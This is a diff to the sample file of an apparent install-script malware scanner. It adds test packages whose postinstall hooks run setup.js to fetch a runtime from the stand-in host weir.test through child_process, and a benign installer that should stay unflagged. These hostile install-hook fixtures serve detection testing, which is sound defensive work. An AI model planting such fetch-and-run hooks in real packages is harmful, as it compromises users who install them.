@@ -1,5 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
+import { at, hide, imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 
 const HEAD =
   "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), cp = require('child_process');\n";
@@ -114,6 +114,14 @@ export const samples: Samples = {
       expected: [at('download-and-run', 'critical', 'setup.js', 4)],
     },
     {
+      name: 'another runtime, in a package that is named after a third',
+      files: {
+        'package.json': manifest({ name: 'bun-tools', scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `${HEAD}const where = 'https://weir.test/oven-sh/bun/releases/latest';\ncp.execSync('unzip ' + where);\n`,
+      },
+      expected: [at('foreign-runtime', 'critical', 'setup.js', 2)],
+    },
+    {
       name: 'another runtime',
       files: installed(
         `${HEAD}const where = 'https://weir.test/oven-sh/bun/releases/latest';\ncp.execSync('unzip ' + where);\ncp.spawn('./bun', ['run', 'work.js'], { detached: true });\n`,
@@ -196,6 +204,10 @@ export const samples: Samples = {
         "import os\nfrom importlib import util\nHERE = os.path.dirname(__file__)\ndef load(is_data, name='base.py'):\n    if is_data:\n        name = 'tables.json'\n    spec = util.spec_from_file_location('own_module', location=f'{HERE}/modules/{name}')\n    return util.module_from_spec(spec)\n",
       ),
     ),
+    quiet('the installer of a runtime, which says how else to get it', {
+      'package.json': manifest({ name: 'bun', scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `${HEAD}cp.spawnSync('sysctl', ['-n', 'hw.model']);\nconst how = 'https://weir.test/oven-sh/bun/releases';\nthrow new Error('install it from ' + how);\n`,
+    }),
     quiet('Python: a file of its own that is flipped and kept', {
       ...wheel(
         "import zipimport\nfrom pathlib import Path\nDATA = Path(__file__).with_name('assets.bin').read_bytes()\nCACHE = Path.home() / '.cache' / 'own.zip'\nCACHE.write_bytes(bytes(byte ^ 90 for byte in DATA))\n",
